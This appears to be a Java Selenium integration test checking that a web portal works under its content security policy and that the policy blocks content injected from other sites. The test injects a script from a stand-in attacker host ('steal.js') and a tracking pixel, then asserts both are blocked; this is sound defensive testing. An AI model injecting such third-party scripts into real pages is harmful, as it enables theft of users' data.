package org.ccbench.journeys;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.JavascriptExecutor;

/**
 * The portal works under its content security policy (sign-in with the form's CSRF token, Vaadin's client engine,
 * Chart.js from the webjar), and the journeys' guard does see what the policy blocks: content from another site.
 */
class ContentSecurityPolicyIT extends BrowserJourney {

    @Test
    void thePortalRunsUnderItsPolicyAndTheJourneysSeeWhatItBlocks() {
        loginPage().signInAs("sourcing@noordzee-energie.example");
        open("benchmark");
        BenchmarkPage page = new BenchmarkPage(this);
        assertThat(page.chartValues()).as("Chart.js draws under the policy").isNotBlank();
        assertThat(Browser.blockedContent(driver)).as("nothing of the portal's own is blocked").isEmpty();

        ((JavascriptExecutor) driver).executeScript("""
                const script = document.createElement('script');
                script.src = 'https://scripts.evil.example/steal.js';
                document.head.appendChild(script);
                const pixel = document.createElement('img');
                pixel.src = 'https://tracker.evil.example/pixel.gif';
                document.body.appendChild(pixel);""");

        List<String> blocked = new ArrayList<>();
        wait.until(driver -> {
            blocked.addAll(Browser.blockedContent(driver));
            return blocked.size() >= 2;
        });
        assertThat(String.join("\n", blocked)).contains("scripts.evil.example/steal.js", "script-src",
                "tracker.evil.example/pixel.gif", "img-src");
    }
}
